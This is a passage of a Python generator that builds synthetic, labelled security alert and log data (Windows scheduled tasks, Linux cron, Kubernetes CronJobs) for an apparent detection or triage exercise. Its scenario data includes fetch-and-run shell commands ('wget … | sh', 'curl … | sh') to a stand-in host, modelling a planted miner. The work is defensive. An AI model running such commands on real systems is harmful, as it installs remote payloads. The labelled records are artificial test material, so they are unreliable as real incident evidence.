        image="docker.io/alpine:3.19", command=["/bin/sh", "-c", "wget -qO- http://203.0.113.41/cw.sh | sh"],
        ua="python-requests/2.31.0", src="203.0.113.41", code=403)
    k8s(at(8, 23, 44), sa, "create", "research-data", "nightly-sync-cache", "malicious", "",
        "leaked Jupyter token: miner CronJob named like the research nightly sync", schedule="*/5 * * * *",
        image="docker.io/alpine:3.19", command=["/bin/sh", "-c", "wget -qO- http://203.0.113.41/cw.sh | sh"],
        sa="jupyter-spawner", ua="python-requests/2.31.0", src="203.0.113.41")
    k8s(at(9, 0, 5), sa, "patch", "research-data", "nightly-sync", "malicious", "",
        "leaked Jupyter token: the research nightly-sync CronJob's image swapped", schedule="15 1 * * *",
        image="ghcr.io/k8s-rsync-tools/rclone:latest", command=["/bin/sh", "-c", "rclone sync /data/projects "
        "s3:fm-research-archive; curl -s http://203.0.113.41/x | sh"], sa="nightly-sync", ua="python-requests/2.31.0",
        src="203.0.113.41", code=200)
    for d in (9, 10, 11):
        k8s(at(d, rng.randrange(24), 5, 1), "system:serviceaccount:kube-system:cronjob-controller", "create",
            "research-data", "nightly-sync-cache-%d" % (28000000 + d * 1440), "malicious", "",
            "the CronJob controller starts the planted miner Job", image="docker.io/alpine:3.19",
            command=["/bin/sh", "-c", "wget -qO- http://203.0.113.41/cw.sh | sh"], sa="jupyter-spawner",
            ua="kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:"
            "cronjob-controller", src="172.24.8.11", resource="jobs",
            groups=("system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"))
    k8s(at(12, 16, 20), "oidc:pt-okeefe@fenmoor.example", "create", "default", "atomic-cronjob", "malicious", "",
        "assumed-breach test: Atomic Red Team T1053.007 #2 kubectl create -f src/cronjob.yaml", schedule="*/1 * * * *",
        image="busybox", command=["/bin/sh", "-c", "date; echo Hello from the Kubernetes cluster"], src="10.60.44.150",
        groups=("oidc:contractors", "system:authenticated"))


# ---------------------------------------------------------------------------------------------- renderers
def iso_z(t, digits=3):
    frac = "%06d" % t.microsecond
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + frac[:digits] + "Z"


def fqdn(h):
    return "%s.%s" % (h, DNS)


def short(path, sep="\\"):
    return path.rsplit(sep, 1)[-1]


def image_of(cmdline):
    first = cmdline.split('"')[1] if cmdline.startswith('"') else cmdline.split(" ")[0]
    return first if "\\" in first else "C:\\Windows\\System32\\" + first


def pid(e, salt=""):
    return 1000 + int(hid("pid", e["seq"], salt, n=5), 16) % 30000


SIGMA_LEVEL = {"Scheduled Task Creation Via Schtasks.EXE": "low", "Task Created": "info", "Task Deleted": "info",
               "Scheduled Task Executed Uncommon LOLBIN": "med", "Suspicious Schtasks From Env Var Folder": "med",
               "Suspicious Scheduled Task Name As GUID": "med",
               "Suspicious Schtasks Schedule Type With High Privileges": "med"}
HAY_FILE = {"Scheduled Task Creation Via Schtasks.EXE": "proc_creation_win_schtasks_creation.yml",
            "Schtasks Creation Or Modification With SYSTEM Privileges": "proc_creation_win_schtasks_system.yml",
            "Task Created": "Sec_4698_Info_TaskCreated.yml", "Task Deleted": "Sec_4699_Info_TaskDeleted.yml",
            "Suspicious Scheduled Task Creation": "win_security_susp_scheduled_task_creation.yml"}
HAY_ID = {"Scheduled Task Creation Via Schtasks.EXE": "9e908a0b-f7d5-51c6-8de1-1367afca2955",
          "Schtasks Creation Or Modification With SYSTEM Privileges": "14dc1e4b-15ec-b005-08fe-6d3f62621b2f",
          "Task Created": "60d768ca-33e8-4f34-b967-14fd7aa18a22", "Task Deleted": "de5ed02e-e7b5-47a0-a35c-06a907c988e4",
          "Suspicious Scheduled Task Creation": "cd7d9f05-3bf6-21f6-6686-e602ab6d72ba"}
RECORD_IDS = {}


def record_id(host, channel):
    key = (host, channel)
    RECORD_IDS[key] = RECORD_IDS.get(key, 200000 + int(hid("rec", host, channel, n=4), 16) * 3) + rng.randrange(3, 400)
    return RECORD_IDS[key]


def hayabusa(e, rule):
    user = e["user"]
    k = e["kind"]
    if k == "proc":
        channel, eid = "Sysmon", 1
        details = {"Cmdline": e["cmd"], "Proc": e["image"], "User": user, "ParentCmdline": e["pcmd"],
                   "LID": "0x3e7" if user == SYSTEM else "0x%x" % (0x100000 + pid(e, "lid")), "PID": pid(e),
                   "PGUID": "{%s}" % guid("pg", e["seq"]), "ParentPID": pid(e, "p"),
                   "ParentPGUID": "{%s}" % guid("ppg", e["seq"]), "Description": "Task Scheduler Configuration Tool",
                   "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation"}
        extra = {"CurrentDirectory": "C:\\Windows\\system32\\", "IntegrityLevel": e["integrity"],
                 "OriginalFileName": short(e["image"]).lower(), "ParentImage": e["parent"], "TerminalSessionId": 0
                 if user == SYSTEM else 1, "UtcTime": e["t"].strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]}
        evtx = "Microsoft-Windows-Sysmon%4Operational.evtx"
    elif k == "task":
        channel, eid = "Sec", 4698 if e["op"] == "created" else 4699
        details = {"Name": e["name"], "User": user, "LID": "0x3e7" if user.endswith("$") else "0x%x" % (0x200000 + pid(e))}
        if e["op"] == "created":
            details = {"Name": e["name"], "Content": task_xml(e), "User": user, "LID": details["LID"]}
        extra = {"ClientProcessId": pid(e), "FQDN": fqdn(e["host"]), "ParentProcessId": pid(e, "p"),
                 "RpcCallClientLocality": 0, "SubjectDomainName": DOMAIN,
                 "SubjectUserSid": "S-1-5-18" if user.endswith("$") else sid_of(user)}
        evtx = "Security.evtx"
    else:
        channel, eid = "TaskSch", 129
        details = {"Name": e["name"], "Path": e["image"], "PID": pid(e)}
        extra = {"Priority": 16384}
        evtx = "Microsoft-Windows-TaskScheduler%4Operational.evtx"
    tactics = ["Exec", "Persis", "PrivEsc"] if k != "task" else ["Persis"]
    obj = {"Timestamp": e["t"].strftime("%Y-%m-%d %H:%M:%S.") + "%03d +00:00" % (e["t"].microsecond // 1000),
           "RuleTitle": rule, "Level": SIGMA_LEVEL.get(rule, "high"), "Computer": fqdn(e["host"]),
           "Channel": channel, "EventID": eid, "MitreTactics": tactics, "MitreTags": ["T1053.005"],
           "RecordID": e.setdefault("rec_" + channel, record_id(e["host"], channel)), "Details": details,
           "ExtraFieldInfo": extra,
           "RuleFile": HAY_FILE.get(rule, rule.lower().replace(" ", "_").replace(".", "").replace("/", "_")[:60] + ".yml"),
           "RuleID": HAY_ID.get(rule, guid("hayabusa-rule", rule)),
           "EvtxFile": "E:\\Triage\\FM-IR-2028-004\\%s\\%s" % (e["host"], evtx)}
    return "{ " + json.dumps(obj, ensure_ascii=False, separators=(",", ":"))[1:-1] + " }"


ELASTIC_IDS = {"A scheduled task was created": ("92a6faf5-78ec-4e25-bea1-73bacc9b59d9", "low", 21),
               "Suspicious Execution via Scheduled Task": ("5d1d6907-0747-4d5d-9b24-e4a18853dc0a", "medium", 47),
               "Potential Persistence via Cron Job": ("b1c14366-f4f8-49a0-bcbb-51d2de8b0bb8", "low", 21),
               "Cron Job Created or Modified": ("ff10d4d8-fea7-422d-afb1-e5a2702369a9", "medium", 47),
               "Systemd Timer Created": ("7fb500fa-8e24-4bd1-9480-2a819352602c", "low", 21)}


def elastic(e, rule):
    rid, sev, risk = ELASTIC_IDS[rule]
    uid = hid("alert", e["seq"], rule, n=64)
    created = e["t"] + dt.timedelta(seconds=rng.randrange(60, 300))
    linux = e["kind"] in ("lxproc", "lxfile")
    src = {"@timestamp": iso_z(created), "kibana.alert.rule.name": rule,
           "kibana.alert.rule.uuid": guid("kibana-rule", rule), "kibana.alert.rule.rule_id": rid,
           "kibana.alert.rule.type": "eql", "kibana.alert.rule.version": "112",
           "kibana.alert.rule.threat": [{"framework": "MITRE ATT&CK", "tactic": {"id": "TA0003", "name": "Persistence"},
                                         "technique": [{"id": "T1053", "name": "Scheduled Task/Job"}]}],
           "kibana.alert.severity": sev, "kibana.alert.risk_score": risk, "kibana.alert.workflow_status": "open",
           "kibana.alert.status": "active", "kibana.alert.original_time": iso_z(e["t"]),
           "kibana.space_ids": ["default"], "kibana.version": "8.17.1", "event.kind": "signal",
           "host": {"name": e["host"], "os": {"type": "linux" if linux else "windows"}}}
    k = e["kind"]
    if k == "task":
        src["user"] = {"name": e["user"], "domain": DOMAIN, "id": sid_of(e["user"])}
        src["event"] = {"code": "4698", "action": "scheduled-task-created", "category": ["iam", "configuration"]}
        src["winlog"] = {"channel": "Security", "computer_name": fqdn(e["host"]).upper(), "event_id": "4698",
                         "record_id": str(record_id(e["host"], "Security")),
                         "event_data": {"TaskName": e["name"], "TaskContent": task_xml(e), "SubjectUserName": e["user"],
                                        "SubjectDomainName": DOMAIN, "ClientProcessId": str(pid(e))}}
        src["kibana.alert.reason"] = "iam event by %s on %s created %s alert %s." % (e["user"], e["host"], sev, rule)
    elif k == "run":
        name = e["user"].split("\\")[-1]
        src["user"] = {"name": "SYSTEM" if e["user"] == SYSTEM else name, "domain": "NT AUTHORITY" if e["user"] == SYSTEM
                       else DOMAIN, "id": "S-1-5-18" if e["user"] == SYSTEM else sid_of(name)}
        src["event"] = {"action": "start", "category": ["process"], "type": ["start"]}
        src["process"] = {"name": short(e["image"]).lower(), "executable": e["image"], "command_line": e["cmd"],
                          "pid": pid(e), "pe": {"original_file_name": short(e["image"]).upper()},
                          "parent": {"name": "svchost.exe", "executable": SVCHOST, "command_line": SCHEDULE,
                                     "args": SCHEDULE.split(" ")}}
        src["kibana.alert.reason"] = "process event with process %s, parent process svchost.exe, by %s on %s created " \
                                     "%s alert %s." % (short(e["image"]).lower(), src["user"]["name"], e["host"], sev, rule)
    elif k == "lxfile":
        src["user"] = {"name": e["user"]}
        src["event"] = {"action": "creation", "category": ["file"], "type": ["creation"]}
        src["file"] = {"path": e["path"], "name": short(e["path"], "/")}
        src["process"] = {"name": short(e["exe"], "/"), "executable": e["exe"], "pid": pid(e)}
        src["kibana.alert.reason"] = "file event with process %s, file %s, by %s on %s created %s alert %s." % (
            short(e["exe"], "/"), short(e["path"], "/"), e["user"], e["host"], sev, rule)
    else:
        src["user"] = {"name": e["user"]}
        src["event"] = {"action": "exec", "category": ["process"], "type": ["start"]}
        src["process"] = {"name": short(e["exe"], "/"), "executable": e["exe"], "command_line": e["cmd"],
                          "args": e["cmd"].split(" "), "pid": pid(e), "working_directory": e["cwd"],
                          "parent": {"name": short(e["parent"], "/"), "executable": e["parent"],
                                     "command_line": e["pcmd"]}}
        src["kibana.alert.reason"] = "process event with process %s, parent process %s, by %s on %s created %s alert %s." % (
            short(e["exe"], "/"), short(e["parent"], "/"), e["user"], e["host"], sev, rule)
    src["kibana.alert.uuid"] = uid
    return json.dumps({"_index": ".internal.alerts-security.alerts-default-000003", "_id": uid, "_source": src},
                      ensure_ascii=False, separators=(",", ":"))


ESCU_MITRE = {"Linux": ["T1053.003"], "Kubernetes": ["T1053.007"]}


def splunk_fields(e, rule):
    notable_time = e["t"] + dt.timedelta(minutes=rng.randrange(5, 20))
    sev = "high" if rule.startswith(("Schtasks", "Windows", "WinEvent", "Svchost", "Scheduled Task")) else "medium"
    f = [("_time", notable_time.astimezone(TZ).strftime("%Y-%m-%dT%H:%M:%S.000-05:00")),
         ("rule_name", rule), ("rule_title", "%s on %s" % (rule, e["host"] or "fm-k8s-prod")),
         ("search_name", "ESCU - %s - Rule" % rule), ("security_domain", "endpoint"), ("severity", sev),
         ("urgency", sev if e["host"] in SERVERS or e["host"] in LINUX_SYSMON else "medium"),
         ("status", "1"), ("status_label", "New"), ("owner", "unassigned")]
    nid = "%s@@notable@@%s" % (guid("notable", e["seq"], rule).upper(), hid("nh", e["seq"], rule))
    f += [("event_id", nid), ("rule_id", nid), ("orig_time", "%.3f" % e["t"].timestamp())]
    k = e["kind"]
    if k in ("proc", "run"):
        parent = e["parent"] if k == "proc" else SVCHOST
        pcmd = e["pcmd"] if k == "proc" else SCHEDULE
        f += [("dest", fqdn(e["host"])), ("user", e["user"]), ("process_name", short(e["image"]).lower()),
              ("process_path", e["image"]), ("process", e["cmd"]), ("process_id", str(pid(e))),
              ("parent_process_name", short(parent).lower()), ("parent_process_path", parent),
              ("parent_process", pcmd)]
    elif k == "task":
        f += [("dest", fqdn(e["host"])), ("user", e["user"]), ("EventCode", "4698"), ("TaskName", e["name"]),
              ("TaskContent", task_xml(e))]
    elif k == "lxproc":
        f += [("dest", e["host"]), ("user", e["user"]), ("process_name", short(e["exe"], "/")),
              ("process_path", e["exe"]), ("process", e["cmd"]), ("process_id", str(pid(e))),
              ("parent_process_name", short(e["parent"], "/")), ("parent_process_path", e["parent"]),
              ("parent_process", e["pcmd"])]
    elif k == "lxfile":
        f += [("dest", e["host"]), ("user", e["user"]), ("file_path", e["path"]), ("file_name", short(e["path"], "/")),
              ("process_guid", "{%s}" % guid("lxp", e["seq"]))]
    else:
        f += [("dest", "fm-k8s-prod"), ("user", e["user"]), ("objectRef.name", e["name"]),
              ("objectRef.namespace", e["ns"]), ("objectRef.resource", "cronjobs"), ("verb", e["verb"]),
              ("requestObject.spec.schedule", e["schedule"]),
              ("requestObject.spec.jobTemplate.spec.template.spec.containers{}.image", e["image"]),
              ("src_ip", e["src"]), ("userAgent", e["ua"])]
    mitre = ESCU_MITRE.get(rule.split(" ")[0], ["T1053.005"])
    f.append(("annotations.mitre_attack", ["T1053"] + mitre))
    return notable_time, f


FIELD_ORDER = ["_time", "rule_name", "rule_title", "search_name", "security_domain", "severity", "urgency", "status",
               "status_label", "owner", "event_id", "rule_id", "orig_time", "dest", "user", "process_name",
               "process_path", "process", "process_id", "parent_process_name", "parent_process_path", "parent_process",
               "EventCode", "TaskName", "TaskContent", "file_path", "file_name", "process_guid", "objectRef.name",
               "objectRef.namespace", "objectRef.resource", "verb", "requestObject.spec.schedule",
               "requestObject.spec.jobTemplate.spec.template.spec.containers{}.image", "src_ip", "userAgent",
               "annotations.mitre_attack"]


def splunk_result(offset, fields):
    out = ["\t<result offset='%d'>" % offset]
    for k, v in fields:
        vals = v if isinstance(v, list) else [v]
        if not vals or vals == [""]:
            continue
        out.append("\t\t<field k=%s>" % quoteattr(k))
        for x in vals:
            out.append("\t\t\t<value><text>%s</text></value>" % escape(x, {'"': "&quot;"}))
        out.append("\t\t</field>")
    out.append("\t</result>")
    return "\n".join(out)


def sysmon_line(e):
    t = e["t"]
    local = t.astimezone(TZ)
    prefix = "%s %2d %s %s sysmon: " % (local.strftime("%b"), local.day, local.strftime("%H:%M:%S"), e["host"])
    system = ('<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>%d</EventID>'
              "<Version>%d</Version><Level>4</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>0x8000000000000000"
              '</Keywords><TimeCreated SystemTime="%s"/><EventRecordID>%d</EventRecordID><Correlation/>'
              '<Execution ProcessID="1187" ThreadID="1187"/><Channel>Linux-Sysmon/Operational</Channel>'
              '<Computer>%s</Computer><Security UserId="0"/></System>')
    utc = t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)
    st = t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d000Z" % t.microsecond
    rec = record_id(e["host"], "sysmon")
    pg = "{%s}" % guid("lxp", e["seq"])

    def data(pairs):
        return "".join('<Data Name="%s">%s</Data>' % (k, escape(str(v))) for k, v in pairs)
    if e["kind"] == "lxproc":
        body = data([("RuleName", "-"), ("UtcTime", utc), ("ProcessGuid", pg), ("ProcessId", pid(e)),
                     ("Image", e["exe"]), ("FileVersion", "-"), ("Description", "-"), ("Product", "-"),
                     ("Company", "-"), ("OriginalFileName", "-"), ("CommandLine", e["cmd"]),
                     ("CurrentDirectory", e["cwd"]), ("User", e["user"]),
                     ("LogonGuid", "{%s}" % guid("logon", e["host"], e["user"])), ("LogonId", 1000),
                     ("TerminalSessionId", 4294967295), ("IntegrityLevel", "no level"), ("Hashes", "-"),
                     ("ParentProcessGuid", "{%s}" % guid("lxpp", e["seq"])), ("ParentProcessId", pid(e, "p")),
                     ("ParentImage", e["parent"]), ("ParentCommandLine", e["pcmd"]), ("ParentUser", e["user"])])
        xml = system % (1, 5, 1, st, rec, e["host"])
    else:
        body = data([("RuleName", "-"), ("UtcTime", utc), ("ProcessGuid", pg), ("ProcessId", pid(e)),
                     ("Image", e["exe"]), ("TargetFilename", e["path"]), ("CreationUtcTime", utc), ("User", e["user"])])
        xml = system % (11, 2, 11, st, rec, e["host"])
    return prefix + "<Event>" + xml + "<EventData>" + body + "</EventData></Event>"


def k8s_line(e):
    aid = guid("audit", e["seq"])
    recv = e["t"]
    done = recv + dt.timedelta(microseconds=rng.randrange(4000, 40000))
    kind = "CronJob" if e["resource"] == "cronjobs" else "Job"
    container = {"name": e["name"].split("-")[0], "image": e["image"], "command": e["command"][:1],
                 "args": e["command"][1:], "imagePullPolicy": "IfNotPresent"}
    pod = {"containers": [container], "restartPolicy": "OnFailure", "serviceAccountName": e["sa"]}
    if kind == "CronJob":
        spec = {"schedule": e["schedule"], "concurrencyPolicy": "Forbid",
                "jobTemplate": {"spec": {"template": {"spec": pod}}}}
    else:
        spec = {"template": {"spec": pod}}
    obj = {"kind": kind, "apiVersion": "batch/v1", "metadata": {"name": e["name"], "namespace": e["ns"]}, "spec": spec}
    uri = "/apis/batch/v1/namespaces/%s/%s" % (e["ns"], e["resource"])
    if e["verb"] == "patch":
        uri += "/%s?fieldManager=kustomize-controller&force=true" % e["name"] if "kustomize" in e["ua"] else \
            "/%s" % e["name"]
    ev_ = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": aid,
           "stage": "ResponseComplete", "requestURI": uri, "verb": e["verb"],
           "user": {"username": e["user"], "uid": guid("k8suid", e["user"]), "groups": e["groups"]},
           "sourceIPs": [e["src"]], "userAgent": e["ua"],
           "objectRef": {"resource": e["resource"], "namespace": e["ns"], "name": e["name"], "apiGroup": "batch",
                         "apiVersion": "v1"}}
    if e["code"] >= 400:
        ev_["responseStatus"] = {"metadata": {}, "status": "Failure", "message": "%s.batch is forbidden: User \"%s\" "
                                 "cannot create resource \"%s\" in API group \"batch\" in the namespace \"%s\"" % (
                                     e["resource"], e["user"], e["resource"], e["ns"]), "reason": "Forbidden",
                                 "code": e["code"]}
        ev_["requestObject"] = obj
        decision = {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""}
    else:
        ev_["responseStatus"] = {"metadata": {}, "code": e["code"]}
        ev_["requestObject"] = obj
        ev_["responseObject"] = dict(obj, metadata=dict(obj["metadata"], uid=guid("k8sobj", e["ns"], e["name"])))
        decision = {"authorization.k8s.io/decision": "allow",
                    "authorization.k8s.io/reason": "RBAC: allowed by RoleBinding or ClusterRoleBinding"}
    ev_["requestReceivedTimestamp"] = iso_z(recv, 6)
    ev_["stageTimestamp"] = iso_z(done, 6)
    ev_["annotations"] = decision
    return json.dumps(ev_, ensure_ascii=False, separators=(",", ":"))


# ---------------------------------------------------------------------------------------------- build
def build():
    check_rubric()
    benign_windows()
    benign_linux()
    benign_k8s()
    malicious()
    order = sorted(EVENTS, key=lambda e: e["t"])
    hay, el, spl, sysl, kube = [], [], [], [], []
    for e in order:
        tools = {"elastic", "splunk"} if e["kind"] == "k8s" else sensors(e["host"])
        if e["kind"] == "k8s":
            kube.append((e, k8s_line(e)))
        if "syslog" in tools and e["kind"] in ("lxproc", "lxfile"):
            sysl.append((e, sysmon_line(e)))
        if "hayabusa" in tools:
            for r in rules_for(e, "hayabusa"):
                hay.append((e, r, hayabusa(e, r)))
        if "elastic" in tools and e["kind"] != "k8s":
            for r in rules_for(e, "elastic"):
                el.append((e, r, elastic(e, r)))
        if "splunk" in tools:
            for r in rules_for(e, "splunk"):
                nt, fields = splunk_fields(e, r)
                spl.append((nt, e, r, fields))
    spl.sort(key=lambda x: x[0], reverse=True)  # ES incident review exports newest first
    labels = []

    def label(fname, i, e, rule):
        notes = notes_for(rule, e) if rule else ""
        labels.append((fname, i, e["verdict"], notes, e["scenario"]))
    for i, (e, r, _) in enumerate(hay):
        label(F_HAY, i, e, r)
    for i, (e, r, _) in enumerate(el):
        label(F_EL, i, e, r)
    for i, (_, e, r, _) in enumerate(spl):
        label(F_SPL, i, e, r)
    for i, (e, _) in enumerate(sysl):
        label(F_SYSL, i, e, "")
    for i, (e, _) in enumerate(kube):
        label(F_K8S, i, e, "")
    outputs = {
        F_HAY: "\n".join(x[2] for x in hay),  # Hayabusa writes no newline after the last record
        F_EL: "".join(x[2] + "\n" for x in el),
        F_SPL: "<?xml version='1.0' encoding='UTF-8'?>\n<results preview='0'>\n<meta>\n<fieldOrder>\n"
               + "".join("<field>%s</field>\n" % escape(k) for k in FIELD_ORDER) + "</fieldOrder>\n</meta>\n"
               + "".join(splunk_result(i, x[3]) + "\n" for i, x in enumerate(spl)) + "</results>\n",
        F_SYSL: "".join(x[1] + "\n" for x in sysl),
        F_K8S: "".join(x[1] + "\n" for x in kube),
    }
    return outputs, labels


def csv_field(s):
    s = str(s)
    return '"%s"' % s.replace('"', '""') if any(c in s for c in ',"\n') else s


def main():
    outputs, labels = build()
    for name, text in outputs.items():
        with open(os.path.join(HERE, name), "w", encoding="utf-8", newline="") as f:
            f.write(text)
    with open(os.path.join(HERE, "labels.csv"), "w", encoding="utf-8", newline="") as f:
        f.write("source_file,record_no,verdict,notes,scenario\n")
        for row in labels:
            f.write(",".join(csv_field(x) for x in row) + "\n")
    counts = {}
    for fname, _, verdict, notes, _ in labels:
        c = counts.setdefault(fname, [0, 0, 0])
        c[0 if verdict == "benign" else 1] += 1
        c[2] += 1 if notes else 0
    total = [sum(c[i] for c in counts.values()) for i in range(3)]
    for fname in FILES:
        c = counts.get(fname, [0, 0, 0])
        print("%-32s %4d records (%d benign / %d malicious, %d with notes)" % (fname, c[0] + c[1], c[0], c[1], c[2]))
    print("%-32s %4d records (%d benign / %d malicious = %.1f %% malicious, %d with notes)" % (
        "total", total[0] + total[1], total[0], total[1], 100.0 * total[1] / (total[0] + total[1]), total[2]))


if __name__ == "__main__":
    main()
